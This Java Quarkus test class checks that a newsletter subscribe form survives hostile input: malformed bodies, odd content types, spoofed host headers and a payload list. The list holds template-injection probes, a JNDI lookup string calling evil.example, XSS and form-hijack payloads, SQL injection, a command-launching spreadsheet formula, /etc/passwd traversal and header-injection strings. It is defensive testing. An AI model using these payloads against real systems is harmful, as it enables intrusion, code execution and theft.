package dev.broadsheet.site;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.broadsheet.Api;
import dev.broadsheet.Readers;
import dev.broadsheet.Rows;
import dev.broadsheet.TestDatabase;
import dev.broadsheet.platform.LinkTokens.Purpose;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is sent to the form by those who do not want to subscribe. */
@QuarkusTest
@QuarkusTestResource(TestDatabase.class)
class HostileFormTest {

    private static final List<String> TEXTS = List.of(
            "{newsletter.title}",
            "{#each newsletter}{it}{/each}",
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "<%= 7*7 %>",
            "${jndi:ldap://evil.example/x}",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "</form><form action=https://evil.example>",
            "javascript:alert(1)",
            "&lt;script&gt;",
            "'; drop table sign_up; --",
            "' or '1'='1",
            "{\"a\",\"b\"}",
            "NULL",
            "\\",
            "a,b",
            "=cmd|'/c calc'!A1",
            "../../etc/passwd",
            "\r\nBcc: eve@example.org",
            "a\nSet-Cookie: x=1",
            "a\u0000b",
            "\u202Emoc.elpmaxe",
            "\uD83D\uDE00".repeat(60),
            "é".repeat(199),
            "n".repeat(1_000_000));

    @TestHTTPResource("/")
    URI root;

    @Inject
    Readers readers;

    @Inject
    Rows rows;

    static Stream<String> texts() {
        return TEXTS.stream();
    }

    private RequestSpecification form(String slug, boolean signed) {
        RequestSpecification form = given().redirects().follow(false);
        return signed
                ? form.formParam(
                        "ts",
                        Readers.tokens(Duration.ofSeconds(5)).sign(Purpose.FORM_SHOWN, readers.newsletterId(slug)))
                : form;
    }

    @ParameterizedTest
    @MethodSource("texts")
    void anyText_inAnyField_isTakenRefusedOrShownEscaped(String text) {
        String slug = Api.newsletter();
        for (boolean signed : new boolean[] {true, false}) {
            for (String field :
                    List.of("email", "name", "section", "ts", "button", "work", "homepage", "email-local")) {
                RequestSpecification form = form(slug, signed && !field.equals("ts"));
                if (field.equals("email-local")) {
                    form.formParam("email", text + "@example.org");
                } else {
                    form.formParam(field, text);
                    if (!field.equals("email")) {
                        form.formParam("email", Readers.address());
                    }
                }
                check(form.post("/n/" + slug + "/subscribe"), slug, text, field);
            }
        }
        // whatever was taken is worked off as well
        readers.awaitSignUps(slug);
        assertThat(rows.number("select count(*) from sign_up where newsletter_id = ?", readers.newsletterId(slug)))
                .isZero();
    }

    private static void check(Response answer, String slug, String text, String field) {
        assertThat(answer.statusCode())
                .as(field)
                .isIn(text.length() > 5_000 ? List.of(303, 200, 400, 413) : List.of(303, 200, 400));
        assertThat(answer.headers().asList())
                .noneMatch(h -> h.getName().equals("Set-Cookie") || h.getName().equals("Bcc"));
        if (answer.statusCode() == 303) {
            assertThat(answer.getHeader("Location")).isEqualTo("/n/" + slug + "/subscribe/check-inbox");
            return;
        }
        Document page = Jsoup.parse(answer.asString());
        assertThat(page.select("script, img, [onerror], [onmouseover]")).isEmpty();
        assertThat(page.select("form")).allMatch(f -> f.attr("action").equals("/n/" + slug + "/subscribe"));
        // no template, ours or another's, was made of it
        assertThat(text.contains("7*7")
                        && page.text()
                                .replace(slug, "")
                                .replaceAll("reader-\\d+", "")
                                .contains("49"))
                .isFalse();
        assertThat(page.select("input[name=" + field + "]").eachAttr("value"))
                .as(field)
                .allMatch(value ->
                        value.equals(text) || value.equals(text.strip()) || !value.contains(text) || text.isBlank());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "application/json",
                "application/xml",
                "multipart/form-data",
                "multipart/form-data; boundary=",
                "multipart/mixed; boundary=x",
                "application/x-www-form-urlencoded; charset=utf-7",
                "application/x-www-form-urlencoded; charset=no-such",
                "x",
                "*/*"
            })
    void otherContentTypes_areRefused_andNothingIsWritten(String type) throws Exception {
        String slug = Api.newsletter();
        var before = rows.readers();
        assertThat(raw(slug, type, "email=ada%40example.org&name=Ada&ts=x")).isIn(200, 400, 415);
        assertThat(rows.readers()).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%",
                "%zz",
                "email=%",
                "email=%f",
                "&&&=&=",
                "=",
                "email",
                "email=a&email=b",
                "email[]=a",
                "%00=%00"
            })
    void brokenBodies_areRefused(String body) throws Exception {
        assertThat(raw(Api.newsletter(), "application/x-www-form-urlencoded", body))
                .isEqualTo(400);
    }

    @Test
    void lettersOfAnyScript_asBrowsersSendThem_arriveAsTheyAre() throws Exception {
        String slug = Api.newsletter();
        String email = Readers.address();
        String ts = Readers.tokens(Duration.ofSeconds(5)).sign(Purpose.FORM_SHOWN, readers.newsletterId(slug));
        assertThat(raw(
                        slug,
                        "application/x-www-form-urlencoded",
                        "email=" + email + "&ts=" + ts + "&name=Zo%C3%AB+%E6%9D%8E+%F0%9F%8C%B1"))
                .isEqualTo(303);
        readers.awaitSignUps(slug);
        assertThat(rows.text("select name from subscriber where email = ?", email))
                .isEqualTo("Zoë 李 \uD83C\uDF31");
    }

    /** Past the test client, which mends what it sends. @return the status */
    private int raw(String slug, String type, String body) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(root.resolve("/n/" + slug + "/subscribe"))
                .header("Content-Type", type)
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build();
        return HttpClient.newHttpClient()
                .send(request, HttpResponse.BodyHandlers.discarding())
                .statusCode();
    }

    @Test
    void hundredsOfFieldsAndSections_areBounded() {
        String slug = Api.newsletter();
        String email = Readers.address();
        Map<String, String> fields =
                IntStream.range(0, 500).boxed().collect(Collectors.toMap(i -> "field" + i, i -> "x".repeat(50)));
        Response answer = form(slug, true)
                .formParams(fields)
                .formParam(
                        "section",
                        IntStream.range(0, 300).mapToObj(i -> "s" + i).toArray())
                .formParam("email", email)
                .formParam("state", "ACTIVE")
                .formParam("confirmed_at", "2026-01-01T00:00:00Z")
                .post("/n/" + slug + "/subscribe");
        assertThat(answer.statusCode()).isIn(303, 400, 413);
        readers.awaitSignUps(slug);
        assertThat(readers.state(slug, email)).isIn("PENDING", "none");
    }

    @ParameterizedTest
    @ValueSource(strings = {"evil.example", "evil.example:80@news.example.test", "news.example.test\tevil", "<script>"})
    void strangeHosts_areInNoAnswer(String host) {
        String slug = Api.newsletter();
        Response answer = given().redirects()
                .follow(false)
                .header("X-Forwarded-Host", host)
                .header("Forwarded", "host=" + host)
                .header("X-Forwarded-For", host)
                .header("X-Original-URL", "/api/tokens")
                .formParam("email", Readers.address())
                .post("/n/" + slug + "/subscribe");
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.asString()).doesNotContain("evil", "<script>");
    }
}
